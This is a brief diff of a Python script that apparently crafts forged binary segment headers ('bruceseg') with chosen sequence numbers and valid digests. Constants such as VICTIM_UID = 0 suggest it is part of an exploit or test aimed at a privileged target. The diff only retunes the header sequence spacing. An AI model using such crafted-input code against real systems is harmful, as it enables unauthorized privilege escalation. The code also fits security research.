@@ -40,9 +40,9 @@ LAST_BURST = 2**63 - 1
 MOST_BYTES = 60_000
 ARMED, BUFFERS = 64, 4096
 """Offsets in a staging file: the burst in its first buffer, and that buffer."""
-STEP = 20
+STEP, HEADER_STEP = 20, 10
 """Between the sequence numbers that are tried: a search believes one that is ahead by a message for every 41
-bytes that it has passed over, and a group of frames takes about a thousand."""
+bytes that it has passed over. A group of frames takes about a thousand, a header and a frame about 500."""
 FORBIDDEN = "forbidden"
 VICTIM_UID = 0
 
@@ -91,11 +91,11 @@ def headers(sequence: int, burst: int) -> bytes:
     for number in range(1, 100):
         head = bytearray(384)
         struct.pack_into("<8sII", head, 0, b"bruceseg", 1, 384)
-        struct.pack_into("<Qq", head, 48, number, sequence + number * STEP)
+        struct.pack_into("<Qq", head, 48, number, sequence + number * HEADER_STEP)
         struct.pack_into("<QQQ", head, 64, 0, 1, sequence)
         struct.pack_into("<Q", head, 88, burst)
         struct.pack_into("<Q", head, 376, digest(bytes(head[:376])))
-        value += bytes(head) + frame(sequence + number * STEP, burst + 1) + b"\xff"
+        value += bytes(head) + frame(sequence + number * HEADER_STEP, burst + 1) + b"\xff"
     return value[:MOST_BYTES]
 
 
